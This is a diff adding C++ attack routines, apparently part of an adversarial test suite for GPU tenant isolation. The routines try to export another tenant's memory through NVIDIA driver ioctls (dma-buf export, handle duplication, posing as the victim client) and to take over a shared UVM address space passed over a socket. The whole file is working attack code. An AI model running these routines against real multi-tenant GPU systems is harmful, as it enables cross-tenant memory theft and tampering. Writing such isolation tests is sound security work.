@@ -1,0 +1,197 @@
+// Attacks that carry others' objects away in files: dma-bufs and exports, which live on when
+// everybody whose memory it was is gone.
+#include <fcntl.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <bit>
+
+#include "common.h"
+#include "rm/nv_controls.h"
+#include "rm/nv_ctrl.h"
+#include "uvm_client.h"
+
+namespace cgpu::adversary {
+namespace {
+
+constexpr std::uint32_t kOwnHandles = 0xcb000000;
+
+std::uint32_t Handle(const std::vector<std::string>& args, std::size_t index) {
+  return static_cast<std::uint32_t>(Number(args, index, 0));
+}
+
+// NV_ESC_EXPORT_TO_DMABUF_FD in 550's layout (nv-ioctl.h nv_ioctl_export_to_dma_buf_fd_t).
+struct DmaBuf {
+  std::int32_t fd;
+  std::uint32_t client;
+  std::uint32_t total_objects;
+  std::uint32_t objects;
+  std::uint32_t index;
+  std::uint64_t total_size;
+  std::uint32_t handles[128];
+  std::uint64_t offsets[128];
+  std::uint64_t sizes[128];
+  std::uint32_t status;
+};
+static_assert(sizeof(DmaBuf) == 2600);
+
+std::uint32_t ExportDmaBuf(int card, std::uint32_t client, std::uint32_t memory,
+                           const Issue& issue) {
+  DmaBuf call{};
+  call.fd = -1;
+  call.client = client;
+  call.total_objects = 1;
+  call.objects = 1;
+  call.total_size = kMiB;
+  call.handles[0] = memory;
+  call.sizes[0] = kMiB;
+  const int error = issue(card, rm::NV_ESC_EXPORT_TO_DMABUF_FD, &call, sizeof(call));
+  return error != 0 ? kNoAnswer : call.status;
+}
+
+// CLIENT MEMORY: the driver makes the duplicate for itself and does not ask whose the memory is.
+int DmaBufs(const std::vector<std::string>& args) {
+  const std::uint32_t victim = Handle(args, 0);
+  const std::uint32_t memory = Handle(args, 1);
+  const Client client = MakeClient();
+  const int spare = OpenControl();  // the simulated driver turns this into the dma-buf
+  Say("dma-buf 0x%x", ExportDmaBuf(client.card, victim, memory, Plainly));
+  const int second = OpenControl();
+  Say("wrapped 0x%x", ExportDmaBuf(client.card, victim, memory, Wrapped));
+  // Nothing of one's own is left but the files.
+  Say("freed 0x%x", client.Free(client.root));
+  Hold();
+  close(spare);
+  close(second);
+  return 0;
+}
+
+std::uint32_t ExportMany(const Client& client, const std::vector<std::uint32_t>& objects,
+                         int file) {
+  rm::NV0000_CTRL_OS_UNIX_EXPORT_OBJECTS_TO_FD_PARAMS params{};
+  params.fd = file;
+  params.hDevice = Client::kDevice;
+  params.maxObjects = static_cast<std::uint16_t>(objects.size());
+  params.numObjects = params.maxObjects;
+  std::copy(objects.begin(), objects.end(), params.objects);
+  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_EXPORT_OBJECTS_TO_FD, &params,
+                        sizeof(params));
+}
+
+// CLIENT MEMORY single|many: gives itself the right to the tenant's memory, copies it, exports the
+// copy and lets everything go but the file.
+int Extract(const std::vector<std::string>& args) {
+  const std::uint32_t victim = Handle(args, 0);
+  const std::uint32_t memory = Handle(args, 1);
+  const bool many = args.size() > 2 && args[2] == "many";
+  Client client = MakeClient();
+  client.next = kOwnHandles;
+  // By the handle alone, and on the tenant's client: these the driver refuses.
+  const int file = OpenControl();
+  Client posing = client;
+  posing.root = victim;
+  Say("foreign 0x%x", many ? ExportMany(client, {memory}, file) : client.Export(memory, file));
+  Say("posing 0x%x", many ? ExportMany(posing, {memory}, file) : posing.Export(memory, file));
+  Say("allow 0x%x", Share(client, victim, memory, client.root));
+  const std::uint32_t copy = client.next++;
+  Say("dup 0x%x", client.Dup(victim, memory, copy));
+  Say("export 0x%x", many ? ExportMany(client, {copy}, file) : client.Export(copy, file));
+  Say("freed 0x%x", client.Free(client.root));
+  close(client.ctl);
+  close(client.card);
+  Hold();
+  close(file);
+  return 0;
+}
+
+std::uint32_t Info(const Client& client, int file) {
+  rm::NV0000_CTRL_OS_UNIX_GET_EXPORT_OBJECT_INFO_PARAMS_V550 info{};
+  info.fd = file;
+  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_GET_EXPORT_OBJECT_INFO, &info,
+                        sizeof(info));
+}
+
+// NAME: asks about the exports on the file that comes from there, and about one of its own.
+int ExportInfo(const std::vector<std::string>& args) {
+  Client client = MakeClient();
+  const int file = ReceiveFd(ConnectTo(args.at(0)));
+  Say("info 0x%x", Info(client, file));
+  close(file);
+  const int own = OpenControl();
+  std::uint32_t object = 0;
+  if (client.AllocMemory(1, &object) != rm::NV_OK || client.Export(object, own) != rm::NV_OK) {
+    Die("failed: no export");
+  }
+  Say("own info 0x%x", Info(client, own));
+  Hold();
+  return 0;
+}
+
+constexpr std::uint64_t kSenders = 0x100000000000;  // addresses free in any process of ours
+constexpr std::uint64_t kReceivers = 0x200000000000;
+
+// NAME: a tenant that hands out nvidia-uvm's file with its address space, in which it has mappings.
+int SpaceSender(const std::vector<std::string>& args) {
+  UvmClient uvm = MakeUvmClient();
+  constexpr std::uint64_t kSize = 64 * kMiB;
+  std::uint32_t memory = 0;
+  if (uvm.client.AllocMemory(64, &memory) != rm::NV_OK ||
+      uvm.CreateRange(kSenders, kSize) != rm::NV_OK ||
+      uvm.Map(kSenders, kSize, memory) != rm::NV_OK) {
+    Die("failed: cannot map");
+  }
+  const int listener = ListenAt(args.at(0));
+  Say("listening");
+  SendFd(accept4(listener, nullptr, nullptr, SOCK_CLOEXEC), uvm.uvm);
+  Say("sent");
+  std::string line;
+  while (Line(&line)) {
+    const bool whole =
+        uvm.Unmap(kSenders, kSize) == rm::NV_OK && uvm.Map(kSenders, kSize, memory) == rm::NV_OK;
+    Say(whole ? "undisturbed" : "disturbed");
+  }
+  return 0;
+}
+
+// NAME: makes itself at home in the sender's space: managed memory in it, and away with what is
+// there.
+int SpaceReceiver(const std::vector<std::string>& args) {
+  const int file = ReceiveFd(ConnectTo(args.at(0)));
+  UvmClient posing = MakeUvmClient();
+  const int own = posing.uvm;
+  posing.uvm = file;
+  constexpr std::uint64_t kStep = 256 * kMiB;
+  std::uint64_t managed = 0;
+  for (std::uint64_t at = kReceivers; managed < 4096 * kMiB; at += kStep, managed += kStep) {
+    void* got = mmap(std::bit_cast<void*>(at), kStep, PROT_READ | PROT_WRITE,
+                     MAP_SHARED | MAP_FIXED, file, static_cast<off_t>(at));
+    rm::UVM_UNMAP_EXTERNAL_PARAMS valid{at, kStep, {}, 0, 0};
+    if (got == MAP_FAILED || posing.Ask(rm::UVM_VALIDATE_VA_RANGE, &valid) != rm::NV_OK) {
+      break;
+    }
+  }
+  Say("managed %llu MiB", static_cast<unsigned long long>(managed / kMiB));
+  Say("range 0x%x", posing.CreateRange(kReceivers * 2, 64 * kMiB));
+  Say("unmap 0x%x", posing.Unmap(kSenders, 64 * kMiB));
+  Say("free 0x%x", posing.FreeRange(kSenders, 64 * kMiB));
+  posing.uvm = own;
+  Say("own range 0x%x", posing.CreateRange(kSenders, 64 * kMiB));
+  Hold();
+  return 0;
+}
+
+}  // namespace
+
+std::vector<Entry> TransferAttacks() {
+  return {
+      {"dma-buf", DmaBufs, "CLIENT MEMORY: the tenant's memory as a dma-buf"},
+      {"extract", Extract, "CLIENT MEMORY single|many: the tenant's memory in a file"},
+      {"export-info", ExportInfo, "NAME: asks about the exports that come from there"},
+      {"space-sender", SpaceSender, "NAME: hands its UVM address space out"},
+      {"space-receiver", SpaceReceiver, "NAME: uses what comes from there"},
+  };
+}
+
+}  // namespace cgpu::adversary
